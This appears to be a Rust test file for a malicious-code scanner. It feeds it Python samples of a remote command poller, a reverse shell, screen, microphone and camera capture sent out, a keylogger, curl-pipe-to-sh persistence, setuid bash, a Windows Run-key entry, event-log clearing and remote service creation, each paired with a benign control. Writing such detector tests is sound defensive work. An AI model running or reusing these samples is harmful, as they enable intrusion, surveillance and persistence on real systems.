//! Behaviour tests for the eighth round (what blind batch 7 showed the
//! seventh round's rules missed), spelled unlike the corpus, each with a
//! benign control.

use super::behaviour_tests::{finding, rules, run};
use super::Verdict;

#[test]
fn commands_from_a_session_handed_in_and_a_dispatch_table() {
    // A client kept in an attribute asks for jobs; a handler table runs
    // them: the answer reaches the shell through both.
    let agent = "import subprocess, requests\nclass Poller:\n    def __init__(self, http):\n        self.http = http\n    def jobs(self):\n        return self.http.post('https://q.example.net/next', json={'me': 1}).json()\ndef sh(line):\n    return subprocess.getoutput(line)\ndef echo(line):\n    return line\nTABLE = {'sh': sh, 'echo': echo}\ndef serve(p):\n    for job in p.jobs():\n        TABLE[job['kind']](job['line'])\nserve(Poller(requests.Session()))\n";
    let a = run(agent);
    let f = finding(&a, "MB913");
    assert_eq!(f.line, 8, "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    // The same table answering with fixed text runs nothing.
    let canned = agent.replace("subprocess.getoutput(line)", "'ok'");
    assert!(!rules(&run(&canned)).contains(&"MB913"));
}

#[test]
fn a_piped_shell_joined_to_a_connection() {
    let bridge = "import os, socket, subprocess, threading\nc = socket.create_connection(('relay.example.org', 9000))\nsh = subprocess.Popen([os.environ.get('SHELL', 'sh')], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\ndef pipe(src, dst):\n    while True:\n        dst(src(512))\nthreading.Thread(target=pipe, args=(c.recv, sh.stdin.write)).start()\npipe(sh.stdout.read, c.send)\n";
    let a = run(bridge);
    assert!(rules(&a).contains(&"MB901"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    // A piped shell fed a fixed script, with no connection.
    let local = "import subprocess\np = subprocess.Popen(['bash'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\nprint(p.communicate(b'uname -a')[0])\n";
    assert!(!rules(&run(local)).contains(&"MB901"));
}

#[test]
fn capture_libraries_shipped_off_the_host() {
    for (capture, what) in [
        (
            "from PIL import ImageGrab\nshot = ImageGrab.grab()",
            "screen",
        ),
        (
            "import sounddevice\nshot = sounddevice.rec(48000, samplerate=16000)",
            "microphone",
        ),
        ("import cv2\nshot = cv2.VideoCapture(0).read()", "camera"),
    ] {
        let src = format!("import requests\n{capture}\nrequests.post('https://x.example.net/u', data=bytes(shot))\n");
        let a = run(&src);
        assert!(rules(&a).contains(&"MB940"), "{what}: {:?}", a.findings);
        assert_eq!(a.verdict, Verdict::Blocked, "{what}");
    }
    // A video file read by OpenCV captures nothing.
    let file = "import cv2, requests\nframe = cv2.VideoCapture('talk.mp4').read()\nrequests.post('https://media.example.org/t', data=bytes(frame))\n";
    assert!(!rules(&run(file)).contains(&"MB940"));
}

#[test]
fn keystrokes_hooked_and_sent_are_blocked() {
    let src = "import keyboard, urllib.request\nkeys = []\nkeyboard.on_press(lambda e: keys.append(e.name))\nkeyboard.wait('esc')\nurllib.request.urlopen('http://198.51.100.4/k', data=''.join(keys).encode())\n";
    let a = run(src);
    assert!(rules(&a).contains(&"MB212"));
    assert_eq!(a.verdict, Verdict::Blocked, "{:?}", a.findings);
}

#[test]
fn the_users_own_setup_is_medium() {
    // A per-user unit for a local program, enabled through `--user`.
    let unit = "import subprocess, pathlib\nu = pathlib.Path.home() / '.config/systemd/user/notes.service'\nu.write_text('[Service]\\nExecStart=/usr/bin/notes-server --port 8080\\n')\nsubprocess.run(['systemctl', '--user', 'enable', '--now', 'notes.service'])\n";
    let a = run(unit);
    assert!(rules(&a).contains(&"MB224"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Medium, "{:?}", a.findings);
    // The same unit fetching its program stays persistence.
    let fetched = unit.replace(
        "/usr/bin/notes-server --port 8080",
        "/bin/sh -c 'curl -s http://198.51.100.7/n | sh'",
    );
    assert!(rules(&run(&fetched)).contains(&"MB906"));
    // A start-up file moved aside and linked to a dotfiles checkout.
    let link = "import os\nrc = os.path.expanduser('~/.bashrc')\nos.rename(rc, rc + '.old')\nos.symlink(os.path.expanduser('~/dots/bashrc'), rc)\n";
    let a = run(link);
    assert!(!rules(&a).contains(&"MB906"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High);
}

#[test]
fn sudo_listing_is_not_sudo_and_what_sudo_runs_is_judged() {
    let list = "import subprocess\nprint(subprocess.run(['sudo', '-l', '-n'], capture_output=True).stdout)\n";
    let a = run(list);
    assert!(!rules(&a).contains(&"MB204"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High);
    let root_shell =
        "import subprocess\nsubprocess.run(['sudo', '-n', 'chmod', 'u+s', '/bin/bash'])\n";
    assert!(rules(&run(root_shell)).contains(&"MB928"));
}

#[test]
fn a_login_key_offered_as_an_option_default() {
    let src = "import argparse, os, paramiko\np = argparse.ArgumentParser()\np.add_argument('--key', default=os.path.expanduser('~/.ssh/id_rsa'))\na = p.parse_args()\nc = paramiko.SSHClient()\nc.connect('app1.internal', key_filename=a.key)\n";
    let a = run(src);
    assert!(!rules(&a).contains(&"MB904"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High);
}

#[test]
fn windows_autostart_logs_and_remote_services() {
    let run_key = "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, 'C:\\\\Users\\\\Public\\\\upd.exe')\n";
    let a = run(run_key);
    assert_eq!(finding(&a, "MB906").line, 3);
    assert_eq!(a.verdict, Verdict::Blocked);
    // Reading the key changes nothing.
    let read = run_key.replace(
        "winreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, 'C:\\\\Users\\\\Public\\\\upd.exe')",
        "print(winreg.QueryValueEx(k, 'upd'))",
    );
    assert!(!rules(&run(&read)).contains(&"MB906"));
    let logs = "import subprocess\nfor log in ('Security', 'System'):\n    subprocess.run(['wevtutil', 'cl', log])\n";
    assert!(rules(&run(logs)).contains(&"MB923"));
    let export = "import subprocess\nsubprocess.run(['wevtutil', 'epl', 'System', 'sys.evtx'])\n";
    assert!(!rules(&run(export)).contains(&"MB923"));
    let psexec = "from impacket.dcerpc.v5 import scmr\ndef push(dce, scm):\n    scmr.hRCreateServiceW(dce, scm, 'svc', 'svc', lpBinaryPathName='%SystemRoot%\\\\x.exe')\n";
    let a = run(psexec);
    assert!(rules(&a).contains(&"MB954"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let query =
        "import subprocess\nsubprocess.run(['sc', '\\\\\\\\print01', 'query', 'Spooler'])\n";
    assert!(!rules(&run(query)).contains(&"MB954"));
}
